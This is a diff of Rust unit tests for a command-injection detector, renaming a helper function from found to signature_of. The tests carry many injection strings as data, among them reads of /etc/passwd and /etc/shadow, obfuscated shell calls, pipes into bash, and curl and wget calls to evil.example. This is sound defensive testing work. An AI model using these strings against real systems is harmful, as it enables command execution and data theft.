@@ -1,6 +1,6 @@
 use super::*;
 
-fn found(value: &str) -> Option<&'static str> {
+fn signature_of(value: &str) -> Option<&'static str> {
     detect(value.as_bytes(), Bytes::of(value.as_bytes()), FieldKind::Value, false)
         .first()
         .map(|it| it.signature)
@@ -44,7 +44,7 @@ fn finds_a_command_after_a_separator() {
         "|cmd /c dir",
         "& net localgroup administrators",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
@@ -63,7 +63,7 @@ fn finds_substitutions() {
         "$(cmd)",
         "$(nslookup x.example)",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
@@ -84,23 +84,23 @@ fn finds_disguised_commands() {
         "; head /e't'c/ho's'ts",
         "|b\"a\"sh",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
 #[test]
 fn finds_commands_built_from_variables() {
     for attack in ["a=cat;$a /x", "x=who&&y=ami;$x$y", "cat ${HOME:0:1}etc${HOME:0:1}hosts", "wh``oami; id"] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
-    assert_eq!(found("a=1; b=$a"), None);
+    assert_eq!(signature_of("a=1; b=$a"), None);
 }
 
 #[test]
 fn finds_pipes_into_a_shell() {
     for attack in ["curl http://192.0.2.1/a | sh", "echo aWQ= | base64 -d | bash", "x|python -c 'import os'"]
     {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
@@ -124,7 +124,7 @@ fn requires_distinctive_arguments_of_a_bare_command_line() {
         "certutil -urlcache -f http://192.0.2.1/a a",
         "dir C:\\",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
     for benign in [
         "cat food",
@@ -145,7 +145,7 @@ fn requires_distinctive_arguments_of_a_bare_command_line() {
         "./bin/console cache:clear",
         "net income user",
     ] {
-        assert_eq!(found(benign), None, "{benign}");
+        assert_eq!(signature_of(benign), None, "{benign}");
     }
 }
 
@@ -208,15 +208,15 @@ fn passes_benign_texts() {
         "see http://a.example/?q=x;id=4",
         "Where: top; when: last; who: me",
     ] {
-        assert_eq!(found(benign), None, "{benign}");
+        assert_eq!(signature_of(benign), None, "{benign}");
     }
 }
 
 #[test]
 fn reports_the_command_with_its_separator() {
     let value = b"127.0.0.1; cat /etc/passwd";
-    let found = &detect(value, Bytes::of(value), FieldKind::Value, false)[0];
-    assert_eq!(&value[found.span.clone()], b"; cat /etc/passwd");
+    let matched = &detect(value, Bytes::of(value), FieldKind::Value, false)[0];
+    assert_eq!(&value[matched.span.clone()], b"; cat /etc/passwd");
 }
 
 #[test]
@@ -229,33 +229,33 @@ fn finds_commands_run_by_other_programs() {
         ";$a cat $b x.txt",
         "env --version",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
 #[test]
 fn finds_here_strings() {
     for attack in ["`cat<<<whoami`", ";irb<<<7+3", "$0<<<whoami x", ">(tee notes)"] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
 #[test]
 fn finds_commands_before_a_comment() {
     for attack in ["\";rm x7 #", "a&del x7&rem", "\nuname >x7", "'|uname >x7 #"] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
-    assert_eq!(found("my dog; cat is #1"), None);
+    assert_eq!(signature_of("my dog; cat is #1"), None);
     for attack in [";id 2>&1", "|whoami 2>&1 &", "x;ls -la 2>&1"] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
 #[test]
 fn finds_chains_of_commands() {
-    assert_eq!(found("cd /;cd srv;fold notes"), Some("rce-command-chain"));
-    assert_eq!(found("wash; cut; sort; find the lid"), None);
-    assert_eq!(found("text/html,application/xml;q=0.9,*/*;q=0.8"), None);
+    assert_eq!(signature_of("cd /;cd srv;fold notes"), Some("rce-command-chain"));
+    assert_eq!(signature_of("wash; cut; sort; find the lid"), None);
+    assert_eq!(signature_of("text/html,application/xml;q=0.9,*/*;q=0.8"), None);
 }
 
 #[test]
@@ -265,20 +265,20 @@ fn finds_strong_commands_inside_prose() {
         ["; cat /etc/shadow", "| curl http://evil.example/x", "&& wget https://evil.example/x -O /tmp/x"]
     {
         assert!(
-            found(&format!("{cover} {attack} {cover}")).is_some()
-                || found(&format!("{cover} {attack}")).is_some(),
+            signature_of(&format!("{cover} {attack} {cover}")).is_some()
+                || signature_of(&format!("{cover} {attack}")).is_some(),
             "{attack}"
         );
     }
-    assert_eq!(found(&format!("{cover}; cut it / paste it, and {cover}")), None);
+    assert_eq!(signature_of(&format!("{cover}; cut it / paste it, and {cover}")), None);
 }
 
 #[test]
 fn finds_cmdlets_of_powershell() {
     for attack in [";Get-Process", "Get-ChildItem C:\\x", "$(Get-Content C:\\x)"] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
-    assert_eq!(found("a get-together; get-well wishes"), None);
+    assert_eq!(signature_of("a get-together; get-well wishes"), None);
 }
 
 #[test]
@@ -294,7 +294,7 @@ fn passes_common_lists_and_pairs() {
         "lunch & more",
         "Meet at 5; bring a host",
     ] {
-        assert_eq!(found(benign), None, "{benign}");
+        assert_eq!(signature_of(benign), None, "{benign}");
     }
 }
 
@@ -313,7 +313,7 @@ fn finds_command_lines_in_quotes_and_with_escaped_line_ends() {
         "del c:\\windows\\x",
         ";{ id; }",
     ] {
-        assert!(found(attack).is_some(), "{attack}");
+        assert!(signature_of(attack).is_some(), "{attack}");
     }
 }
 
@@ -329,6 +329,6 @@ fn passes_names_of_commands_alone_and_in_sentences() {
         "net users grew by a third in May",
         "\\new line\\n",
     ] {
-        assert_eq!(found(text), None, "{text}");
+        assert_eq!(signature_of(text), None, "{text}");
     }
 }
